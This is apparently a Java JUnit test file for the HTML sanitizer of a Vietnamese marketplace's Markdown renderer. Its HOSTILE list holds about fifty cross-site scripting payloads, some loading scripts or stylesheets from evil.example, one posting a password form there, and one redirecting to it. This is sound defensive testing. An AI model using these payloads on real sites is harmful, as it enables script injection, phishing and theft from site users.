package vn.ocopmarket.storefront.pages;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.time.Duration;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

class MarkupTests {

    private static final Pattern TAG = Pattern.compile("<[^>]*>?");
    private static final Pattern HARMLESS = Pattern.compile("</?(?:p|em|strong|ul|ol|li|blockquote|code)>|<br ?/?>|</a>"
            + "|<ol start=\"\\d+\">|<a rel=\"nofollow ugc noopener noreferrer\" href=\"https?://[^\"<>]*\">");

    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=https://evil.example></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=x onclick=alert(1)>x</a>",
            "<math><mtext></p><script>alert(1)</script>",
            "<style>@import 'https://evil.example/x.css'</style>",
            "<body onload=alert(1)>",
            "<form action=https://evil.example><input name=password>",
            "<meta http-equiv=refresh content=0;url=https://evil.example>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<base href=https://evil.example/>",
            "<!-- --><script>alert(1)</script>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?php echo 1 ?>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#115;cript:alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](\\javascript:alert(1))",
            "[x](//evil.example)",
            "[x](https://a.example/\" onmouseover=\"alert(1))",
            "[x](<https://a.example/\"onmouseover=alert(1)>)",
            "[x](https://a.example \"t\\\" onmouseover=\\\"alert(1)\")",
            "![x](https://evil.example/pixel.gif)",
            "![<script>alert(1)</script>](javascript:alert(1))",
            "[![x](javascript:alert(1))](javascript:alert(2))",
            "<javascript:alert(1)>",
            "<https://a.example/\" onclick=\"alert(1)>",
            "[x]: javascript:alert(1)\n\n[x]",
            "```html\n<script>alert(1)</script>\n```",
            "    <script>alert(1)</script>",
            "`<script>alert(1)</script>`",
            "# <img src=x onerror=alert(1)>",
            "> <script>alert(1)</script>",
            "* <details open ontoggle=alert(1)>",
            "\u0000<script>alert(1)</script>",
            "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<p style=\"background:url(javascript:alert(1))\">",
            "<x/onclick=alert(1)>click");

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void leavesNothingThatCouldRunOrLoad(String hostile) {
        assertThat(TAG.matcher(Markup.toHtml(hostile)).results().map(found -> found.group()))
                .as(Markup.toHtml(hostile))
                .allMatch(tag -> HARMLESS.matcher(tag).matches());
    }

    @Test
    void keepsWhatPeopleWriteWith() {
        assertThat(Markup.toHtml("Dừa **sáp** chỉ có ở *Cầu Kè*.\nDòng hai.\n\n- một\n- hai"))
                .isEqualTo("""
                        <p>Dừa <strong>sáp</strong> chỉ có ở <em>Cầu Kè</em>.<br>
                        Dòng hai.</p>
                        <ul>
                        <li>một</li>
                        <li>hai</li>
                        </ul>
                        """);
        assertThat(Markup.toHtml("[Xưởng](https://vi.example/xuong?a=1&b=2)"))
                .isEqualTo("<p><a rel=\"nofollow ugc noopener noreferrer\" "
                        + "href=\"https://vi.example/xuong?a=1&amp;b=2\">Xưởng</a></p>\n");
    }

    @Test
    void showsForbiddenMarkupAsTheTextItIs() {
        assertThat(Markup.toHtml("<b>Giá</b> < 5 & > 3"))
                .isEqualTo("<p>&lt;b&gt;Giá&lt;/b&gt; &lt; 5 &amp; &gt; 3</p>\n");
        assertThat(Markup.toHtml("[gọi](tel:113) ![ảnh](https://evil.example/a.png)"))
                .isEqualTo("<p>gọi ảnh</p>\n");
    }

    @Test
    void doesNotChokeOnDepth() {
        for (var bomb : List.of(">".repeat(5_000), "[".repeat(5_000), "*a ".repeat(1_600), "- ".repeat(2_500))) {
            assertThatCode(() ->
                            Assertions.assertTimeoutPreemptively(Duration.ofSeconds(30), () -> Markup.toHtml(bomb)))
                    .doesNotThrowAnyException();
        }
    }
}
